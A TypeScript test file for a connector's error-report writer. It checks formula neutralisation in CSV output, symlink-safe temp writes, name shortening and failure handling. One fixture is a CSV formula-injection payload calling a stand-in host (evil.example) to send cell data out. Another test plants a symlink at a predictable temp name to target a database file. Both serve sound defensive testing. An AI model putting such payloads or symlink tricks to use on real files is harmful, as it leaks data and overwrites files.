/**
 * The error report writer against hostile text and a hostile folder: formula cells, registered
 * secrets and token paths in problem messages, a symlink at the old predictable temp name, names
 * too long for their suffix, and a folder where the report cannot go.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isConnectorError } from '../../src/errors.js';
import { REPORT_SUFFIX, renderCsvReport, reportNameFor, writeReportFiles } from '../../src/intake/report-files.js';
import { MAX_NAME_BYTES, utf8Length } from '../../src/shared/file-name.js';
import { TEMP_NAME_EXTRA_BYTES } from '../../src/shared/write-file-atomic.js';
import { withTempDir } from '../helpers/temp-dir.js';
import { type FileReport } from '../../src/shared/types.js';

/** A one-problem report; each test changes the message or the name. */
function reportWith(message: string, externalId = 'R-1'): FileReport {
  return {
    file: 'requests.csv',
    sha256: 'ab'.repeat(32),
    problems: [{ row: 3, field: 'customer.name', code: 'FIELD_INVALID', message, externalId, value: message }],
    notes: [],
  };
}

/** A rejected file in a real `rejected/` folder. */
function rejectedFile(dir: string, name = '20260612-101500-requests.csv'): string {
  const folder = path.join(dir, 'inbox', 'rejected');
  fs.mkdirSync(folder, { recursive: true });
  const file = path.join(folder, name);
  fs.writeFileSync(file, 'ext;inn\n');
  return file;
}

describe('writeReportFiles', () => {
  it('neutralises a formula in the CSV report and keeps it unchanged in the JSON report', async () => {
    await withTempDir(async (dir) => {
      const file = rejectedFile(dir);
      const formula = '=HYPERLINK("http://evil.example/?q="&A1,"Open")';
      await writeReportFiles(file, reportWith(formula, '@SUM(1)'));
      const csv = fs.readFileSync(`${file}${REPORT_SUFFIX.csv}`, 'utf8');
      const json = JSON.parse(fs.readFileSync(`${file}${REPORT_SUFFIX.json}`, 'utf8')) as { problems: { message: string; externalId: string }[] };
      expect(csv.split('\r\n')[1]).toBe(`3;customer.name;FIELD_INVALID;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Open"")";'@SUM(1)`);
      expect(json.problems[0]!.message).toBe(formula);
      expect(json.problems[0]!.externalId).toBe('@SUM(1)');
    });
  });

  it('quotes a cell holding a comma, so that Excel splitting on commas cannot cut a formula out of it', () => {
    const csv = renderCsvReport({ ...reportWith('bad, =1+1', 'A-1,=1+1'), file: 'x,=1+1,.csv' });
    expect(csv.split('\r\n')[1]).toBe('3;customer.name;FIELD_INVALID;"bad, =1+1";"A-1,=1+1"');
  });

  it('does not write through a symlink planted at the old predictable temp name', async () => {
    await withTempDir(async (dir) => {
      const file = rejectedFile(dir);
      const victim = path.join(dir, 'connector.sqlite');
      fs.writeFileSync(victim, 'precious');
      for (const suffix of Object.values(REPORT_SUFFIX)) fs.symlinkSync(victim, `${file}${suffix}.${process.pid}.tmp`);
      const written = await writeReportFiles(file, reportWith('bad'));
      expect(written).toEqual([`${file}${REPORT_SUFFIX.json}`, `${file}${REPORT_SUFFIX.csv}`]);
      expect(fs.readFileSync(victim, 'utf8')).toBe('precious');
      expect(fs.readFileSync(written[0]!, 'utf8')).toContain('"message": "bad"');
    });
  });

  it('shortens a stored name too long for its report suffix, keeping .errors.json / .errors.csv whole', async () => {
    await withTempDir(async (dir) => {
      const base = `${'з'.repeat(118)}.csv`; // 240 bytes: fits as a file, not with ".errors.json" and a temp name
      const file = rejectedFile(dir, base);
      const written = await writeReportFiles(file, reportWith('bad'));
      expect(written.map((p) => path.basename(p).endsWith(REPORT_SUFFIX.json) || path.basename(p).endsWith(REPORT_SUFFIX.csv))).toEqual([true, true]);
      for (const p of written) {
        expect(fs.existsSync(p)).toBe(true);
        expect(utf8Length(path.basename(p)) + TEMP_NAME_EXTRA_BYTES).toBeLessThanOrEqual(MAX_NAME_BYTES);
        expect(path.basename(p).startsWith('ззз')).toBe(true);
      }
      expect(fs.readdirSync(path.dirname(file)).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    });
  });

  it('keeps a name that fits as it is', () => {
    expect(reportNameFor('20260612-101500-requests.csv', REPORT_SUFFIX.json)).toBe('20260612-101500-requests.csv.errors.json');
  });

  it('throws REPORT_WRITE_FAILED naming the report when it cannot be written, and leaves no temp file', async () => {
    await withTempDir(async (dir) => {
      const file = rejectedFile(dir);
      fs.mkdirSync(`${file}${REPORT_SUFFIX.json}`); // a folder planted at the report's name
      const failure = await writeReportFiles(file, reportWith('bad')).catch((error: unknown) => error);
      expect(isConnectorError(failure, 'REPORT_WRITE_FAILED')).toBe(true);
      expect((failure as Error).message).toContain(`${file}${REPORT_SUFFIX.json}`);
      expect(fs.readdirSync(path.dirname(file)).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    });
  });

  it('replaces an older report by rename: a reader holding the old one keeps it whole', async () => {
    await withTempDir(async (dir) => {
      const file = rejectedFile(dir);
      fs.writeFileSync(`${file}${REPORT_SUFFIX.csv}`, 'older report');
      fs.linkSync(`${file}${REPORT_SUFFIX.csv}`, path.join(dir, 'reader-holds-this'));
      await writeReportFiles(file, reportWith('bad'));
      expect(fs.readFileSync(path.join(dir, 'reader-holds-this'), 'utf8')).toBe('older report');
      expect(renderCsvReport(reportWith('bad'))).toBe(fs.readFileSync(`${file}${REPORT_SUFFIX.csv}`, 'utf8'));
    });
  });
});
